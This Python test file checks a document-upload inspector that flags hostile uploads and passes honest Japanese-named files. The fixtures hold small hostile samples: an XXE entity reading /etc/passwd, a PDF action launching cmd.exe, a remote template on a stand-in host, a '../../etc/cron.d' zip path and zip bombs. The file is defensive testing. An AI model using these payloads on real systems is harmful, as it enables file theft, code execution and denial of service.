"""Each hostile file is found, each honest one passes; findings never quote the file."""

import io

import pikepdf
import pytest

from madoguchi.core.vault.inspection.findings import Finding
from madoguchi.core.vault.inspection.inspector import findings_of
from madoguchi.core.vault.policy import ExtraCheck, FilePolicy
from madoguchi.core.vault.tests.builders import DOCX, MB, OFFICE, PNG, docx, ole, pdf, zipped


def in_words(value):
    """Ids of the cases without the files' bytes, which hold times and differ between runs."""
    if isinstance(value, list):
        return ",".join(value)
    return "bytes" if isinstance(value, bytes) else value


def codes(body, name, policy=OFFICE):
    return [item.code for item in findings_of(io.BytesIO(body), name, len(body), policy)]


@pytest.mark.parametrize(
    ("body", "name"),
    [
        (pdf(), "企画提案書.pdf"),
        (docx(), "企画提案書.docx"),
        (zipped({"見積書.csv": "品名,金額\n"}), "一式.zip"),
        (PNG, "図面.png"),
        ("氏名,﨑\n髙橋,𠮷田\n".encode(), "名簿.csv"),
        ("氏名,金額\n髙橋,1\n".encode("cp932"), "名簿.csv"),
        (ole("WordDocument"), "古い書式.doc"),
        (docx({"word/embeddings/表.xlsx": zipped({"xl/workbook.xml": "<x/>"})}), "図表入り.docx"),
    ],
    ids=in_words,
)
def test_honest_file_has_no_finding(body, name):
    assert codes(body, name) == []


BOMB = zipped({"0.txt": b"\0" * (40 * MB)})
DEEP = zipped({"a.zip": zipped({"b.zip": zipped({"c.txt": "x"})})})
XXE = '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'
XXE_UTF16 = zipped(DOCX | {"word/document.xml": XXE.encode("utf-16")})
XLM = zipped({"[Content_Types].xml": "", "xl/macrosheets/sheet1.xml": ""})
PACKAGE = docx({"word/embeddings/o.bin": ole("\x01Ole10Native")})
RELS = (
    '<Relationships><Relationship Id="1" Type="http://a/attachedTemplate" '
    'Target="http://evil.example.jp/t.dotm" TargetMode="External"/></Relationships>'
)
JAVASCRIPT = {"/OpenAction": pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="app.alert(1)")}
LAUNCH = {"/OpenAction": pikepdf.Dictionary(S=pikepdf.Name.Launch, F="cmd.exe")}


@pytest.mark.parametrize(
    ("body", "name", "expected"),
    [
        (docx(), "提案書.pdf", ["wrong_type"]),
        (pdf(), "提案書.docx", ["wrong_type"]),
        (zipped({"a.txt": "x"}), "提案書.docx", ["wrong_type"]),
        (docx(), "提案書.xlsx", ["wrong_type"]),
        (PNG, "名簿.csv", ["wrong_type"]),
        (b"MZ\x90\0" + b"\0" * 500, "提案書.pdf", ["active_content"]),
        (b"<svg xmlns='http://www.w3.org/2000/svg'><script/></svg>", "図.png", ["active_content"]),
        (b"\xef\xbb\xbf <!DOCTYPE html><script>1</script>", "名簿.csv", ["active_content"]),
        (pdf() + zipped({"x.txt": "二つ目"}), "提案書.pdf", ["polyglot"]),
        (PNG + zipped({"x.txt": "二つ目"}), "図.png", ["polyglot"]),
        (b"GIF89a" + pdf(), "図.png", ["polyglot"]),
        (zipped({"x.txt": b"%PDF-1.7"}, compression=0), "一式.zip", ["polyglot"]),
        (pdf(password="himitsu"), "提案書.pdf", ["encrypted"]),
        (pdf(owner="himitsu"), "提案書.pdf", ["pdf_restricted"]),
        (pdf(catalog=JAVASCRIPT), "提案書.pdf", ["pdf_script"]),
        (pdf(catalog=LAUNCH), "提案書.pdf", ["pdf_launch"]),
        (pdf(attach=b"x"), "提案書.pdf", ["pdf_attachment"]),
        (pdf()[:200], "提案書.pdf", ["broken"]),
        (BOMB, "一式.zip", ["zip_bomb"]),
        (docx({"word/media/0.bin": b"\0" * (40 * MB)}), "提案書.docx", ["zip_bomb"]),
        (zipped({f"{n}": "" for n in range(10_001)}), "一式.zip", ["zip_bomb"]),
        (DEEP, "一式.zip", ["zip_nested"]),
        (zipped({"../../etc/cron.d/x": "x"}), "一式.zip", ["zip_path"]),
        (zipped({"起動.exe": "x"}), "一式.zip", ["active_content"]),
        (docx({"word/vbaProject.bin": b"x"}), "提案書.docx", ["macro"]),
        (zipped({"a.docm": docx({"word/vbaProject.bin": b"x"})}), "一式.zip", ["macro"]),
        (XLM, "表.xlsx", ["macro"]),
        (ole("WordDocument", "_VBA_PROJECT"), "提案書.doc", ["macro"]),
        (ole("Workbook") + b"\x85\x00\x0e\x00\x11\x22\x00\x00\x00\x01", "表.xls", ["macro"]),
        (ole("EncryptedPackage"), "提案書.docx", ["encrypted"]),
        (ole("WordDocument", word_flags=0x0100), "提案書.doc", ["encrypted"]),
        (PACKAGE, "提案書.docx", ["embedded_package"]),
        (zipped(DOCX | {"word/document.xml": XXE}), "提案書.docx", ["xml_entities"]),
        (XXE_UTF16, "提案書.docx", ["xml_entities"]),
        (docx({"word/_rels/settings.xml.rels": RELS}), "提案書.docx", ["remote_template"]),
        (zipped({"a.txt": "x" * 999})[:-40], "一式.zip", ["broken"]),
        (PNG[:40], "図.png", ["broken"]),
    ],
    ids=in_words,
)  # fmt: skip
def test_hostile_file_is_found(body, name, expected):
    assert codes(body, name) == expected


def test_policy_allows_what_it_says():
    lenient = FilePolicy(("docx", "pdf"), 30 * MB, allow_macros=True, allow_encrypted=True)
    assert codes(docx({"word/vbaProject.bin": b"x"}), "a.docx", lenient) == []
    assert codes(pdf(password="x"), "a.pdf", lenient) == []


@pytest.mark.parametrize(("pages", "expected"), [(20, []), (21, ["too_many_pages"])])
def test_page_limit_of_the_policy(pages, expected):
    assert codes(pdf(pages), "a.pdf", FilePolicy(("pdf",), MB, max_pages=20)) == expected


def odd_bytes(stream, name, options):
    if len(stream.read()) % 2 == options["remainder"]:
        yield Finding("odd", "奇数です。")


def test_extra_check_of_a_service_runs_with_its_options():
    path = "madoguchi.core.vault.tests.unit.test_inspection.odd_bytes"
    policy = FilePolicy(("csv",), MB, checks=(ExtraCheck(path=path, options={"remainder": 1}),))
    assert FilePolicy.from_json(policy.as_json()) == policy
    assert codes(b"abc", "a.csv", policy) == ["odd"]
    assert codes(b"ab", "a.csv", policy) == []
